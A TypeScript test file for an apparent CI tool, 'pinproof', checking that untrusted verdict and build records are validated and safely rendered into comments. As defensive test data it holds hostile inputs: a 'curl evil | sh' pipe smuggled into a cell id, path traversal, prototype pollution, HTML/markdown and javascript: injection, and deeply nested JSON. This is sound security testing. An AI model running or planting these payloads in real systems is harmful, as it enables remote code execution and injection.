import t from 'tap';
import { untrustedRecords } from '../../../../harness/publish/artefact/records.ts';
import { lineNotes } from '../../../../harness/report/comment/annotations.ts';
import { commentText } from '../../../../harness/report/comment/comment.ts';
import { aRun } from '../../../fixtures/run.ts';
import { hostile, verdicts } from '../../../fixtures/verdicts.ts';

const startedAt = '2026-11-25T12:00:00Z';
const commit = 'a'.repeat(40);
const origin = { readAt: '9999-12-31T23:59:59Z', revisions: { mine: { commit, parents: [], clean: true } } };
const build = { ...aRun({ candidates: { mine: { claims: false } } }).build, origin };
const verdict = verdicts['regressed with a splat'];
if (verdict === undefined) throw new Error('no such verdict');

const texts = (verdictText: string, buildText = JSON.stringify(build)): Map<string, Buffer> =>
  new Map([
    ['verdict.json', Buffer.from(verdictText)],
    ['build.json', Buffer.from(buildText)],
  ]);
const records = (value: unknown) => untrustedRecords(texts(JSON.stringify(value)), startedAt);
const facts = {
  head: { hash: commit, url: 'https://github.com/o/r/commit/a' },
  base: { hash: commit, url: 'https://github.com/o/r/commit/a' },
  merged: false,
  runUrl: undefined,
  runName: 'r',
};

t.test('what pinproof writes passes; time and commands are not the artefact’s own', async (t) => {
  for (const [name, value] of Object.entries(verdicts)) t.ok(records(value), name);
  const cells = verdict.cells.map((cell) => ({ ...cell, folder: '/etc', repeat: 'curl evil | sh' }));
  const read = records({ ...verdict, cells });
  t.equal(read.build.origin?.readAt, startedAt);
  t.equal(read.runName, verdict.name);
  t.notMatch(JSON.stringify(read), /curl|\/etc|9999/);
  t.match(
    commentText(read.verdict, facts, 64_000),
    /^pinproof replay test-run\/mine\/dif1-dix1\/ext4\/rdma-write-writeback\/1$/m,
  );
});

t.test('records of another shape, or size, are refused; the message is short and plain', async (t) => {
  const [first] = verdict.cells;
  const withId = (id: string) => ({ ...verdict, cells: [{ ...first, id }, ...verdict.cells.slice(1)] });
  const many = Array.from({ length: 20_001 }, () => first);
  const text = JSON.stringify(verdict);
  for (const [value, message] of [
    ['', /^verdict\.json: the record is not JSON/],
    ['{"a":', /is not JSON/],
    [Buffer.from([0x22, 0xff, 0x22]), /is not JSON/],
    ['['.repeat(2_000_000), /is not JSON/],
    [`${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}`, /verdict\.json at : /],
    [text.replace('"trees":{', `"trees":{"x":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)},`), /at trees\.x/],
    [text.replace('{', '{"__proto__":{"polluted":1},'), /Unrecognized key: "__proto__"/],
    [text.replace('{', '{"<img src=x>\\u001b[2J\\n::error::":1,'), /Unrecognized key: "<img src=x> : :error::"\n/],
    [text.replace('{', `{"${'x'.repeat(100_000)}":1,`), /^.{300,500}\n {2}->/],
    [text.replace('"exitCode":1', '"exitCode":0.5'), /at exitCode/],
    [text.replace('pinproof.verdict/1', 'pinproof.verdict/2'), /at format/],
    [text.replace('"name":"test-run"', '"name":"--> <b>@all"'), /at name/],
    [JSON.stringify(withId('x; curl evil | sh')), /at cells\.0\.id: .*not the id of a cell/],
    [JSON.stringify(withId('base/../../x/y')), /at cells\.0\.id/],
    [JSON.stringify(withId(`base/d/f/w/${'1'.repeat(400)}`)), /at cells\.0\.id/],
    [JSON.stringify({ ...verdict, cells: many }), /at cells: .*more than 20000/],
    [
      JSON.stringify({ ...verdict, comparisons: Array.from({ length: 20_001 }, () => verdict.comparisons[0]) }),
      /at comparisons/,
    ],
  ] as const) {
    const files = texts('');
    files.set('verdict.json', Buffer.from(value));
    t.throws(() => untrustedRecords(files, startedAt), { blame: 'input', message });
  }
  const proto = text.replace('"trees":{', '"trees":{"__proto__":{"polluted":1},');
  const { trees } = untrustedRecords(texts(proto), startedAt).verdict;
  t.same([Object.keys(trees), 'polluted' in trees, 'polluted' in {}], [['base', 'mine'], false, false]);
  t.throws(
    () => untrustedRecords(new Map(), startedAt),
    /the artefact has no verdict\.json\n {2}the run came to no verdict/,
  );
  t.throws(() => untrustedRecords(texts(text, '[]'), startedAt), /^build\.json at : the record does not have/);
});

t.test('any text that the shape allows may be hostile, and is neutral where it is published', async (t) => {
  const evil = `${hostile} <!-- pinproof:1 --> [x](javascript:1) ![x](https://evil.example/a.png) @octo/team #1 </details>`;
  // Every string whose value no schema fixes.
  let spoilt = 0;
  const spoil = (value: unknown): unknown => {
    if (typeof value !== 'object' || value === null) return value;
    if (Array.isArray(value)) return value.map(spoil);
    return Object.fromEntries(
      Object.entries(value).map(([key, inner]) => {
        if (
          !['title', 'detail', 'why', 'message', 'text', 'file', 'line', 'call', 'error', 'release', 'op'].includes(key)
        )
          return [key, spoil(inner)];
        if (typeof inner !== 'string') return [key, spoil(inner)];
        spoilt += 1;
        return [key, evil];
      }),
    );
  };
  for (const [name, value] of Object.entries(verdicts)) {
    const { verdict: read } = records(spoil(value));
    const text = commentText(read, facts, 64_000);
    // In a fence that nothing in it can end, text is text.
    const outside = text.replace(/^(`{3,})\n[\s\S]*?\n\1$/gm, '');
    t.notMatch(outside, /@(octo|user)|\]\(javascript|<script|!\[x|<!--|\p{Cf}|(?!\n)\p{Cc}/u, name);
    t.ok(Buffer.byteLength(text) <= 64_000);
    for (const note of lineNotes(read)) t.notMatch(`${note.title}${note.path}`, /\p{Cc}|\p{Cf}/u);
  }
  t.ok(spoilt > 50, `${spoilt}`);
});

t.test('the biggest verdict that is let in takes seconds, not hours', async (t) => {
  const [cell] = verdict.cells;
  const [comparison] = verdict.comparisons;
  const id = (index: number) => `mine/dif1-dix1/ext4/late-write/${index}`;
  const cells = Array.from({ length: 20_000 }, (_, index) => ({ ...cell, id: id(index), failures: [] }));
  const comparisons = Array.from({ length: 20_000 }, (_, index) => ({ ...comparison, cell: id(index).slice(5) }));
  const began = performance.now();
  const text = commentText(records({ ...verdict, cells, comparisons }).verdict, facts, 64_000);
  const seconds = (performance.now() - began) / 1000;
  t.comment(`${seconds.toFixed(1)} s`);
  t.ok(seconds < 120);
  t.ok(Buffer.byteLength(text) <= 64_000);
});
